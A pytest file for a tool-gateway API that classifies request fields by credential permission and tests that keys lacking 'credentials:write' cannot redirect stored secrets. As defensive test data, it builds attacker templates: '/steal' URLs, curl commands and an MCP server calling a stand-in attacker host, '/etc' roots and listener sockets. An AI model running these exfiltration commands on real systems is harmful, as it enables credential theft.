"""Every field that a registrar may send is classified by what it does to credentials, and is tried by a key
without `credentials:write`: a new field that is in no table fails here.

owner      only a key with `credentials:write` may send it; tried, and denied
moves      it names an address on a provider that is there; tried, and no stored secret ever arrives there
registers  it belongs to the registration of a provider, whose name is not taken yet: nothing is stored for it
nested     a model with a row of its own
harmless   it moves neither a credential nor the trust over which one travels
"""

import asyncio
import contextlib
from dataclasses import dataclass, field
from typing import get_args

import pytest

from app.api.approvals.schemas import ApprovalDecision
from app.api.exports.schemas import ExportQuery
from app.api.keys.schemas import KeyCreate, KeyPatch, KeyRotation
from app.api.providers import request_bodies
from app.api.providers.schemas_health import CheckRequest
from app.api.recordings.schemas import RecordingCreate, RecordingPatch, RunCreate
from app.api.tools.schemas import ToolBatch, ToolFilter, ToolOperation, ToolPatch
from app.api.toolsets.schemas import ToolsetCreate, ToolsetInput
from app.calls.recordings.document import RecordingDocument
from app.calls.recordings.options import RecordingOptions
from app.core.schemas import (
    AllPagesInput,
    AnnotationsInput,
    RateLimitInput,
    ResponseOptionsInput,
    StrictModel,
    UpstreamModeInput,
)
from app.formats.toolclad.contract import Contract
from app.formats.utcp.auth import (
    ApiKeyAuth,
    AwsSigV4Auth,
    BasicAuth,
    DigestAuth,
    GoogleServiceAccountAuth,
    HmacAuth,
    OAuth2Auth,
)
from app.formats.xml.shape import XmlNode, XmlShape
from app.protocols.cli.template import CliCommand
from app.protocols.mcp.template import McpConfig, McpServer
from app.protocols.registry import PROTOCOLS
from app.protocols.requests.output_spec import OutputSpec
from app.protocols.requests.templates import (
    BodySpec,
    EncodingSpec,
    ParameterSpec,
    PartHeader,
    ResponseSpec,
)
from app.providers.credentials import input_models as credential_inputs
from app.providers.credentials import permissions
from app.providers.credentials.input_models import CredentialInput
from app.providers.plugins.configuration import PluginConfiguration
from app.providers.registration import from_export as exported
from app.providers.registration import input_models as inputs
from app.providers.transfer import export
from app.providers.transfer.toolsets import ExportedToolset
from app.search.words.definition import PinnedResult, SynonymSet
from app.toolsets.definition import MemberChange, ResultBudget, StoredDefinition, ToolsetDefinition
from tests.harness.cases import for_each
from tests.harness.certificates import certificate

from .documents import manual, openapi, tool

CANARY = "canary-of-the-owner-9"
WRITER = ("providers:read", "providers:write", "tools:read", "tools:call")
GRANT = "grant_type token_endpoint_auth_method key_id signing_algorithm issuer subject assertion_audience"
RECIPE = (
    "header header_value headers string_to_sign algorithm encoding body_hash_encoding secret_encoding "
    "timestamp_format"
)
KINDS = ("owner", "moves", "registers", "nested", "harmless")

TEMPLATE = {
    "owner": "auth",
    "nested": "toolclad",
    "harmless": "name call_template_type allowed_communication_protocols",
}
OVER_URL = {"owner": "auth headers", "moves": "url", "nested": "toolclad"}
HTTP_FIELDS = "header_fields http_method content_type body_field"
LOCAL_DOCUMENT = {"owner": "auth auth_tools", "nested": "toolclad", "harmless": "base_url"}

FIELDS = {
    inputs.ProviderPatch: {
        "nested": "limits options",
        "harmless": "description tags language enabled executor_keys executor_owner",
    },
    inputs.OptionsInput: {
        "owner": " ".join(permissions.CREDENTIALS_WRITE_OPTIONS),
        "moves": " ".join(permissions.DESTINATION_OPTIONS),
        "harmless": " ".join(permissions.HARMLESS_OPTIONS),
    },
    inputs.LimitsInput: {
        "nested": "rate cache",
        "harmless": "connect first_byte idle total response_bytes concurrency breaker_failures attempts "
        "retry_idempotent idempotency_header stream",
    },
    inputs.CacheInput: {"harmless": "seconds default_seconds stale_if_error tools"},
    RateLimitInput: {"harmless": "requests per_seconds burst"},
    inputs.VariableInput: {"owner": "value secret allowed_origins"},
    inputs.VariablePatch: {"owner": "allowed_origins"},
    inputs.VariablesInput: {"owner": "variables"},
    inputs.RegistrationFields: {
        "owner": "credentials variables", "nested": "limits options", "harmless": "description tags language",
    },
    inputs.RegistrationInput: {
        "owner": "credentials variables", "nested": "limits options source",
        "registers": "name", "harmless": "description tags language",
    },
    inputs.UrlRegistrationInput: {
        "owner": "credentials variables", "nested": "limits options",
        "registers": "name url", "harmless": "description tags language",
    },
    request_bodies.UploadForm: {
        "owner": "credentials variables", "nested": "limits options",
        "registers": "name file root overlay", "harmless": "description tags language",
    },
    request_bodies.McpServersBody: {
        "owner": "credentials variables", "nested": "limits options",
        "registers": "name mcp_servers", "harmless": "description tags language",
    },
    request_bodies.ExportBody: {"nested": "providers toolsets", "harmless": "format"},
    inputs.DocumentOptionsInput: {"registers": "root overlay"},
    inputs.SourceInput: {
        "owner": "headers auth auth_tools",
        "registers": "url document manual manifests call_template root overlay follow_references",
    },
    inputs.CustomToolInput: {
        "owner": "variables", "nested": "call_template",
        "harmless": "provider name description inputs outputs tags keywords",
    },
    ToolPatch: {
        "nested": "annotations response_options",
        "harmless": "description tags keywords enabled requires_approval publish_output_schema",
    },
    ResponseOptionsInput: {"nested": "all_pages", "harmless": "poll"},
    AllPagesInput: {"harmless": "by items pointer argument max_pages"},
    AnnotationsInput: {"harmless": "read_only destructive idempotent open_world header_inputs"},
    ApprovalDecision: {"harmless": "comment"},
    ToolBatch: {"nested": "operations", "harmless": "atomic dry_run"},
    ToolOperation: {
        "nested": "filter patch",
        "harmless": "tool add_tags remove_tags adopt_source_tags if_match",
    },
    ToolFilter: {"harmless": "provider tag q state"},
    CheckRequest: {"harmless": "probe tool"},
    export.ExportDocument: {"nested": "providers toolsets", "harmless": "format"},
    ExportedToolset: {"nested": "definition", "harmless": "name title description former_names"},
    export.ExportedProvider: {
        "nested": "limits options tools slots overrides",
        "registers": "name url final_url media_type document document_base64 root overlay follow_references "
        "call_template",
        "harmless": "title description tags language document_language enabled variables "
        "unconfirmed_origins",
    },
    export.ExportedOverride: {
        "nested": "annotations response_options",
        "harmless": "description tags keywords enabled requires_approval publish_output_schema",
    },
    exported.ToolForm: {
        "nested": "security", "registers": "call_template",
        "harmless": "source_key name description inputs outputs tags keywords custom",
    },
    exported.NeedForm: {"registers": "slot scopes certificate"},
    exported.SlotForm: {
        "nested": "values",
        "registers": "slot kind scheme location name http_scheme token_url metadata_url scopes description fallback",
    },
    exported.ValueLocationForm: {"registers": "location name"},
    credential_inputs.ApiKeyInput: {"owner": "kind value location name allowed_origins"},
    credential_inputs.BasicInput: {"owner": "kind username password allowed_origins"},
    credential_inputs.BearerInput: {"owner": "kind token scheme allowed_origins"},
    credential_inputs.OAuth2Input: {
        "owner": "kind client_id client_secret token_url metadata_url scope audience resource allowed_origins "
        f"refresh_token private_key {GRANT}",
    },
    credential_inputs._PasswordInput: {"owner": "username password allowed_origins"},
    credential_inputs.DigestInput: {"owner": "kind username password allowed_origins"},
    credential_inputs.AwsSigV4Input: {
        "owner": "kind access_key_id secret_access_key session_token region service allowed_origins"
    },
    credential_inputs.HmacInput: {"owner": f"kind secret key_id allowed_origins {RECIPE}"},
    credential_inputs.GoogleServiceAccountInput: {"owner": "kind key scope subject allowed_origins"},
    credential_inputs.StaticInput: {"nested": "values", "owner": "kind allowed_origins"},
    credential_inputs.StaticValue: {"owner": "location name value"},
    credential_inputs._CredentialInput: {"owner": "allowed_origins"},
    KeyCreate: {
        "harmless": "name owner purpose scopes providers tags toolsets expires_at rate_limit"
        " allow_unknown_providers argument_repair schemas",
        "nested": "upstream",
    },
    KeyPatch: {
        "harmless": "name owner purpose scopes providers tags toolsets expires_at rate_limit"
        " allow_unknown_providers argument_repair schemas",
        "nested": "upstream",
    },
    ExportQuery: {"harmless": "format strict names q provider tag limit mode"},
    ToolsetCreate: {"nested": "definition", "harmless": "name title description"},
    ToolsetInput: {"nested": "definition", "harmless": "title description"},
    ToolsetDefinition: {
        "nested": "changes result_budget upstream",
        "harmless": "tools providers tags search exclude read_only mode pinned argument_repair schemas",
    },
    StoredDefinition: {
        "nested": "changes result_budget upstream",
        "harmless": "tools providers tags search exclude read_only mode pinned argument_repair schemas former_names plugin",
    },
    MemberChange: {"harmless": "name title description presets"},
    ResultBudget: {"harmless": "max_bytes max_tokens"},
    KeyRotation: {"harmless": "overlap_seconds expires_at"},
    PROTOCOLS["http"].template: {
        **OVER_URL, "owner": "auth headers auth_tools secrets", "nested": "parameters body response toolclad",
        "harmless": f"{TEMPLATE['harmless']} {HTTP_FIELDS} gateways accept defaults",
    },
    PROTOCOLS["sse"].template: {
        **OVER_URL,
        "harmless": f"{TEMPLATE['harmless']} header_fields event_type reconnect retry_timeout body_field",
    },
    PROTOCOLS["streamable_http"].template: {
        **OVER_URL, "harmless": f"{TEMPLATE['harmless']} {HTTP_FIELDS} chunk_size timeout",
    },
    PROTOCOLS["graphql"].template: {
        **OVER_URL,
        "harmless": f"{TEMPLATE['harmless']} header_fields operation_type operation_name query "
        "variable_types fields_argument",
    },
    PROTOCOLS["websocket"].template: {
        **OVER_URL,
        "harmless": f"{TEMPLATE['harmless']} header_fields protocol keep_alive message response_format "
        "timeout responses enforce_message_boundaries",
    },
    PROTOCOLS["grpc"].template: {
        "owner": "auth headers", "moves": "host port use_ssl", "nested": "toolclad",
        "harmless": f"{TEMPLATE['harmless']} service_name method_name descriptors server_streaming",
    },
    PROTOCOLS["webrtc"].template: {
        # The peer gets the arguments; credentials go to the signalling server.
        "owner": "auth headers", "moves": "signaling_server", "nested": "toolclad",
        "harmless": f"{TEMPLATE['harmless']} peer_id data_channel_name timeout tool_name",
    },
    PROTOCOLS["tcp"].template: {
        "owner": "auth", "moves": "host port", "nested": "toolclad",
        "harmless": f"{TEMPLATE['harmless']} request_data_format request_data_template "
        "response_byte_format timeout framing_strategy length_prefix_bytes length_prefix_endian "
        "message_delimiter interpret_escape_sequences fixed_message_length max_response_size "
        "enforce_message_boundaries",
    },
    PROTOCOLS["udp"].template: {
        "owner": "auth", "moves": "host port", "nested": "toolclad",
        "harmless": f"{TEMPLATE['harmless']} request_data_format request_data_template "
        "response_byte_format timeout number_of_response_datagrams enforce_message_boundaries",
    },
    PROTOCOLS["mcp"].template: {
        "owner": "auth", "nested": "config toolclad",
        "harmless": f"{TEMPLATE['harmless']} register_resources_as_tools tool_name resource_uri",
    },
    PROTOCOLS["cli"].template: {
        "owner": "auth env_vars", "moves": "command_name", "nested": "commands toolclad",
        "harmless": f"{TEMPLATE['harmless']} inherit_env_vars working_dir",
    },
    PROTOCOLS["ubp"].template: {
        "owner": "auth", "moves": "executor", "nested": "toolclad", "harmless": f"{TEMPLATE['harmless']} command_name",
    },
    PROTOCOLS["filesystem"].template: {
        **TEMPLATE, "moves": "root", "harmless": f"{TEMPLATE['harmless']} operation max_bytes",
    },
    PROTOCOLS["postgres"].template: {
        "owner": "auth username password", "moves": "host port", "nested": "toolclad",
        "harmless": f"{TEMPLATE['harmless']} database sslmode timeout max_rows",
    },
    PROTOCOLS["text"].template: {**LOCAL_DOCUMENT, "harmless": f"{TEMPLATE['harmless']} base_url content"},
    PROTOCOLS["file"].template: {**LOCAL_DOCUMENT, "harmless": f"{TEMPLATE['harmless']} base_url file_path"},
    ParameterSpec: {
        "nested": "encoding",
        "harmless": "input name location style explode allow_reserved content_type required item_styles",
    },
    BodySpec: {
        "nested": "encoding other_fields xml item_encoding prefix_encoding", "harmless": "input content_type required single_part",
    },
    EncodingSpec: {
        "nested": "headers xml item_encoding prefix_encoding",
        "harmless": "content_type style explode allow_reserved text file nested_files item_styles",
    },
    PartHeader: {"harmless": "value required"},
    ResponseSpec: {"nested": "xml output", "harmless": "status content_type json_schema redirects"},
    XmlShape: {"nested": "node types", "harmless": "root"},
    XmlNode: {
        "nested": "properties items additional all_of any_of",
        "harmless": "ref name namespace prefix node_type wrapped order",
    },
    # A manifest's request has the destination of its template, and its command is a program that is allowed.
    Contract: {
        "moves": "http command mcp",
        "harmless": "tool version risk_tier human_approval timeout_seconds cedar evidence arguments output",
    },
    OutputSpec: {"harmless": "source argument members each decode default require error"},
    UpstreamModeInput: {"harmless": "mode recording seed"},
    PluginConfiguration: {"owner": "credentials", "registers": "settings document"},
    SynonymSet: {"harmless": "terms expand_to toolset"},
    PinnedResult: {"harmless": "query tools toolset"},
    RecordingCreate: {"nested": "options", "harmless": "name description"},
    RecordingPatch: {"nested": "options", "harmless": "description"},
    RecordingOptions: {"harmless": "ignored after_last strict"},
    RecordingDocument: {"nested": "options interactions", "harmless": "format description"},
    RunCreate: {"harmless": "key_id"},
    inputs.ResponsesInput: {"harmless": "decode validate_outputs tools"},
    McpConfig: {"nested": "servers"},
    McpServer: {
        "owner": "env headers query", "moves": "url command",
        "harmless": "transport args cwd timeout sse_read_timeout terminate_on_close",
    },
    CliCommand: {"moves": "command", "harmless": "append_to_final_output"},
    ApiKeyAuth: {"owner": "auth_type api_key var_name location"},
    BasicAuth: {"owner": "auth_type username password"},
    OAuth2Auth: {
        "owner": "auth_type token_url client_id client_secret scope audience resource refresh_token "
        f"private_key {GRANT}"
    },
    DigestAuth: {"owner": "auth_type username password"},
    AwsSigV4Auth: {"owner": "auth_type access_key_id secret_access_key session_token region service"},
    HmacAuth: {"owner": f"auth_type secret key_id {RECIPE}"},
    GoogleServiceAccountAuth: {"owner": "auth_type key scope subject"},
}  # fmt: skip


def fields_of(model, *kinds):
    return [name for kind in kinds or KINDS for name in FIELDS[model].get(kind, "").split()]


def inputs_of(model):
    """The models of request bodies that inherit from this one."""
    found = {model} if model.__module__.startswith("app.") else set()
    return found.union(*(inputs_of(one) for one in model.__subclasses__()))


# They register nothing: entries of the catalogue are files of the operator, responses of a recording are sent
# to nobody but its clients, and the key of a model API is that of the request that has it.
NOT_REGISTERED = ("app.providers.plugins.entry", "app.calls.recordings.document", "app.agents.tests.")


def test_every_model_that_a_registrar_sends_is_classified():
    sent = {one for one in inputs_of(StrictModel) if not one.__module__.startswith(NOT_REGISTERED)}
    assert sent - {StrictModel} <= FIELDS.keys()
    assert {
        *(record.template for record in PROTOCOLS.values()),
        *get_args(get_args(CredentialInput.__value__)[0]),
    } <= FIELDS.keys()


@for_each("model", FIELDS, ids=lambda model: model.__name__)
def test_every_field_is_classified_once(model):
    assert FIELDS[model].keys() <= set(KINDS)
    assert sorted(fields_of(model)) == sorted(model.model_fields)


AUTHORITY = certificate("127.0.0.9")
PAIR = certificate("127.0.0.1", issuer=AUTHORITY)
VALUES = {
    "proxy_url": "http://127.0.0.1:9",
    "proxy_resolves": True,
    "ca_bundle": AUTHORITY[0],
    "client_certificate": PAIR[0],
    "client_key": PAIR[1],
    "unix_socket": "/run/another.sock",
    "redirect_origin": "https://another.example",
}


def another(name):
    """A value of the option that is not what holds without it."""
    default = permissions.CREDENTIALS_WRITE_OPTIONS[name]
    return VALUES.get(name, not default)


@pytest.fixture
async def writer(gateway_app):
    return await gateway_app.client(*WRITER)


@pytest.fixture
async def owned(admin, upstream):
    """A provider with credentials for its own tools and for its custom tools."""
    upstream.pages["/openapi.json"] = openapi(upstream.url)
    source = {"url": f"{upstream.url}/openapi.json"}
    made = await admin.post("/providers", json={"name": "pets", "source": source})
    assert made.status_code == 201, made.text
    body = {"provider": "pets", "name": "own", "call_template": {"url": f"{upstream.url}/own"}}
    assert (await admin.post("/tools", json=body)).status_code == 201
    await rotate(admin)
    return admin


async def rotate(owner):
    for slot in ("key", "default"):
        body = {"kind": "api_key", "value": CANARY, "name": "X-Key", "location": "header"}
        stored = await owner.put(f"/providers/pets/credentials/{slot}", json=body)
        assert stored.status_code in (200, 201), stored.text


def denied(response, *pointers):
    assert response.status_code == 403, response.text
    assert response.json()["missing_scopes"] == ["credentials:write"]
    assert [error["pointer"] for error in response.json().get("errors", ())][: len(pointers)] == [*pointers]


async def test_options_that_need_the_scope_are_denied_in_every_request(owned, writer, upstream):
    for name in fields_of(inputs.OptionsInput, "owner"):
        options = {name: another(name)}
        secret = name in ("proxy_url", "client_key")
        pointers = () if secret else (f"/options/{name}",)
        denied(await writer.patch("/providers/pets", json={"options": options}), *pointers)
        for path in ("/providers", "/providers/preview"):
            body = {"name": "new", "source": {"document": openapi(upstream.url)}, "options": options}
            denied(await writer.post(path, json=body), *pointers)
            assert (await writer.post(path, json=[body])).json()["entries"][0]["status"] == 403
        if not secret:
            entry = {"name": "new", "document": "{}", "options": options}
            back = await writer.post("/import", json={"format": export.FORMAT, "providers": [entry]})
            assert back.json()["entries"][0]["status"] == 403, back.text
    assert (await owned.get("/providers/new")).status_code == 404
    assert (await owned.get("/providers/pets")).json()["options"] == {}


async def test_only_the_owner_removes_what_the_owner_set(owned, writer):
    names = [name for name in fields_of(inputs.OptionsInput, "owner") if name != "proxy_url"]
    options = {name: another(name) for name in names}
    assert (await owned.patch("/providers/pets", json={"options": options})).status_code == 200
    for name in names:
        pointers = () if name == "client_key" else (f"/options/{name}",)
        denied(await writer.patch("/providers/pets", json={"options": {name: None}}), *pointers)
        if pointers:
            same = await writer.patch("/providers/pets", json={"options": {name: options[name]}})
            assert same.status_code == 200, same.text


async def test_an_option_in_no_table_needs_the_scope(gateway_app):
    with pytest.raises(permissions.Forbidden):
        permissions.RegistrationPermissions(
            may_write_credentials=False, may_use_shared_secrets=True
        ).require_options_write({"brand_new": 1}, at="/options")


async def test_harmless_changes_move_no_secret(owned, writer, upstream, elsewhere):
    limits = {
        "connect": 5, "first_byte": 5, "idle": 5, "total": 9, "response_bytes": 9_999, "concurrency": 9,
        "breaker_failures": 0, "attempts": 1, "retry_idempotent": True, "idempotency_header": "Idempotency-Key",
        "stream": 9, "rate": {"requests": 99, "per_seconds": 1}, "cache": {"seconds": 1},
    }  # fmt: skip
    assert sorted(limits) == sorted(inputs.LimitsInput.model_fields)
    options = dict.fromkeys(fields_of(inputs.OptionsInput, "harmless"), True)
    options |= {"responses": {"decode": True, "validate_outputs": True}, "http_version": "1.1"}
    patch = {
        "limits": limits,
        "options": options,
        "description": elsewhere.url,
        "tags": ["t"],
        "enabled": True,
    }
    assert (await writer.patch("/providers/pets", json=patch)).status_code == 200
    changed = {"description": elsewhere.url, "tags": ["t"], "enabled": True}
    assert (await writer.patch("/tools/pets.own", json=changed)).status_code == 200
    await rotate(owned)
    assert (await writer.post("/tools/pets.own/call", json={})).status_code == 200
    direct = await writer.get("/utcp?mode=direct")
    assert CANARY not in direct.text
    assert elsewhere.seen == []


@pytest.mark.parametrize("field_name", sorted(fields_of(inputs.OptionsInput, "moves")))
async def test_options_that_name_a_destination_are_denied_for_providers_with_secrets(
    owned, writer, field_name, elsewhere
):
    value = {"host": elsewhere.url} if field_name == "server_variables" else elsewhere.url
    patch = {"options": {field_name: value}}
    denied(await writer.patch("/providers/pets", json=patch), f"/options/{field_name}")


async def test_secrets_in_templates_need_the_scope(owned, writer, upstream):
    key = {"auth_type": "api_key", "api_key": "mine"}
    urls = {"url": upstream.url, "signaling_server": upstream.url}
    for protocol, record in PROTOCOLS.items():
        model = record.template
        for name in fields_of(model, "owner"):
            secret = {"X-Any": "mine"} if name in ("headers", "env_vars", "secrets") else key
            secret = "mine" if name in ("username", "password") else secret
            if name == "auth_tools":
                template = {
                    "call_template_type": protocol,
                    "url": upstream.url,
                    "content": "{}",
                    "file_path": "/x",
                }
                template[name] = secret
                made = await writer.post(
                    "/providers", json={"name": "n", "source": {"call_template": template}}
                )
            else:
                where = "ws" + upstream.url[4:] if protocol == "websocket" else upstream.url
                template = {**SAMPLES[protocol], **urls, "url": where, name: secret}
                if protocol == "mcp":
                    template["config"] = {"mcpServers": {"s": {"url": upstream.url}}}
                made = await writer.post(
                    "/tools", json={"provider": "pets", "name": "t", "call_template": template}
                )
            # Local protocols are disabled here.
            assert made.status_code in ((422, 403) if model in LOCAL else (403,)), (protocol, name, made.text)
    for name in fields_of(McpServer, "owner"):
        server = {"url": upstream.url, name: {"X": "mine"}}
        template = {"call_template_type": "mcp", "config": {"mcpServers": {"s": server}}, "tool_name": "t"}
        body = {"provider": "pets", "name": "t", "call_template": template}
        assert (await writer.post("/tools", json=body)).status_code == 403, name
    for name in fields_of(inputs.SourceInput, "owner"):
        secret = {"X-Any": "mine"} if name == "headers" else key
        source = {"url": f"{upstream.url}/openapi.json", name: secret}
        denied(await writer.post("/providers", json={"name": "n", "source": source}))
    for name, value in (
        ("variables", {"A": {"value": "x"}}),
        ("credentials", {"key": {"kind": "bearer", "token": "t"}}),
    ):
        body = {"name": "n", "source": {"document": openapi(upstream.url)}, name: value}
        denied(await writer.post("/providers", json=body))
    body = {
        "provider": "pets",
        "name": "t",
        "call_template": {"url": upstream.url},
        "variables": {"A": {"value": "x"}},
    }
    denied(await writer.post("/tools", json=body))
    for path in ("/variables/A", "/providers/pets/variables/A", "/providers/pets/credentials/key"):
        denied(await writer.put(path, json={"value": "x", "kind": "api_key"}))
        denied(await writer.delete(path))


@dataclass
class Listener:
    """An attacker's sockets: HTTP's own upstream aside, whatever arrives by TCP or UDP."""

    port: int = 0
    seen: bytearray = field(default_factory=bytearray)


@contextlib.asynccontextmanager
async def listening():
    """On one port of both."""
    found = Listener()

    async def take(reader, writer_):
        with contextlib.suppress(ConnectionError, TimeoutError):
            async with asyncio.timeout(0.5):
                while piece := await reader.read(65_536):
                    found.seen += piece
        writer_.close()

    class Datagrams(asyncio.DatagramProtocol):
        def datagram_received(self, data, addr):
            found.seen.extend(data)

    server = await asyncio.start_server(take, "127.0.0.1", 0)
    found.port = server.sockets[0].getsockname()[1]
    loop = asyncio.get_running_loop()
    transport, _ = await loop.create_datagram_endpoint(Datagrams, local_addr=("127.0.0.1", found.port))
    try:
        yield found
    finally:
        transport.close()
        server.close()


# What makes a template of each protocol whole; `moves` fields are set to the attacker's address.
SAMPLES = {
    "http": {},
    "sse": {},
    "streamable_http": {},
    "graphql": {"query": "{ a }", "operation_type": "query"},
    "websocket": {},
    "grpc": {"host": "127.0.0.1", "port": 9, "service_name": "s.S", "method_name": "M"},
    "tcp": {"host": "127.0.0.1", "port": 9, "timeout": 300},
    "udp": {"host": "127.0.0.1", "port": 9, "timeout": 300},
    "webrtc": {"peer_id": "p", "timeout": 500},
    "mcp": {"tool_name": "t"},
    "cli": {"command_name": "/bin/true"},
    "ubp": {"executor": "pets", "command_name": "c"},
    "filesystem": {"operation": "read", "root": "/srv"},
    "postgres": {"host": "127.0.0.1", "port": 9, "database": "d", "sslmode": "disable"},
    "text": {"content": "x"},
    "file": {"file_path": "/x"},
}
SAMPLES = {protocol: {"call_template_type": protocol, **more} for protocol, more in SAMPLES.items()}
LOCAL = {PROTOCOLS[protocol].template for protocol in ("cli", "text", "file", "filesystem")}


def moved(protocol, model, elsewhere, listener):
    """A template with each field that moves a destination set to the attacker's, one or all that go together."""
    http = {"url": f"{elsewhere.url}/steal"}
    if protocol == "websocket":
        http = {"url": f"ws{elsewhere.url[4:]}/steal"}
    places = {
        "url": http,
        "signaling_server": {"signaling_server": f"{elsewhere.url}/steal"},
        "host": {"host": "127.0.0.1", "port": listener.port},
        "port": {"host": "127.0.0.1", "port": listener.port},
        "use_ssl": {"host": "127.0.0.1", "port": listener.port, "use_ssl": True},
        "executor": {"executor": "elsewhere"},
        "root": {"root": "/etc"},
        "command_name": {"command_name": f"/usr/bin/curl {elsewhere.url}"},
    }
    for name in fields_of(model, "moves"):
        yield {**SAMPLES[protocol], **places[name]}
    if protocol == "http":
        contract = {"tool": "t", "http": {"url": http["url"]}}
        yield {**SAMPLES[protocol], **http, "toolclad": contract}
        yield {**SAMPLES[protocol], "url": "http://127.0.0.1:9/own", "toolclad": contract}
    if protocol == "mcp":
        for name in fields_of(McpServer, "moves"):
            server = http if name == "url" else {"command": "/usr/bin/curl", "args": [elsewhere.url]}
            yield {**SAMPLES[protocol], "config": {"mcpServers": {"s": server}}}
    if protocol == "cli":
        for name in fields_of(CliCommand, "moves"):
            step = {name: f"/usr/bin/curl {elsewhere.url}"}
            yield {"call_template_type": "cli", "commands": [step]}


@pytest.mark.parametrize("protocol", PROTOCOLS)
async def test_a_tool_at_another_address_gets_no_secret(owned, writer, upstream, elsewhere, protocol):
    async with listening() as listener:
        stored = 0
        for number, template in enumerate(moved(protocol, PROTOCOLS[protocol].template, elsewhere, listener)):
            body = {"provider": "pets", "name": f"t{number}", "call_template": template}
            made = await writer.post("/tools", json=body)
            assert made.status_code in (201, 403, 422), made.text
            stored += made.status_code == 201
        assert stored or PROTOCOLS[protocol].template in LOCAL
        await rotate(owned)
        listed = (await owned.get("/tools?provider=pets&limit=100")).json()["items"]
        assert len(listed) == stored + 2
        for one in listed:
            await owned.post(f"/tools/{one['name']}/call", json={})
        for site in (elsewhere, listener):
            seen = bytes(site.seen) if isinstance(site, Listener) else repr(site.seen).encode()
            assert CANARY.encode() not in seen
        assert CANARY in repr(upstream.seen)


async def test_a_source_that_moves_moves_no_secret(owned, writer, upstream, elsewhere):
    """Of a refresh by a key without the scope, nothing that moves is put to use."""
    upstream.pages["/openapi.json"] = openapi(elsewhere.url, paths=("/pets", "/more"))
    refreshed = await writer.post("/providers/pets/refresh")
    assert sorted(refreshed.json()["difference"]["pending_approval"]) == ["GET /more", "GET /pets"]
    denied(await writer.post("/providers/pets/approve"))
    await rotate(owned)
    assert (await owned.post("/tools/pets.listPets/call", json={})).status_code == 200
    assert (await owned.post("/providers/pets/approve")).status_code == 200
    await rotate(owned)
    assert (await owned.post("/tools/pets.listPets/call", json={})).status_code == 403
    assert elsewhere.seen == []


async def test_a_registration_takes_no_existing_name(owned, writer, elsewhere):
    key = {"call_template_type": "http", "name": "pets", "url": elsewhere.url}
    entry = {
        "name": "pets",
        "tools": [],
        "call_template": {"call_template_type": "http", "url": elsewhere.url},
    }
    for path, body in (
        ("/providers", {"name": "pets", "source": {"url": elsewhere.url}}),
        ("/providers", {"name": "pets", "source": {"manual": manual(tool("a", elsewhere.url))}}),
        ("/providers", key),
        ("/providers?name=pets", openapi(elsewhere.url)),
    ):
        assert (await writer.post(path, json=body)).status_code == 409
    imported = await writer.post("/import", json={"format": export.FORMAT, "providers": [entry]})
    assert [one["status"] for one in imported.json()["entries"]] == [409]
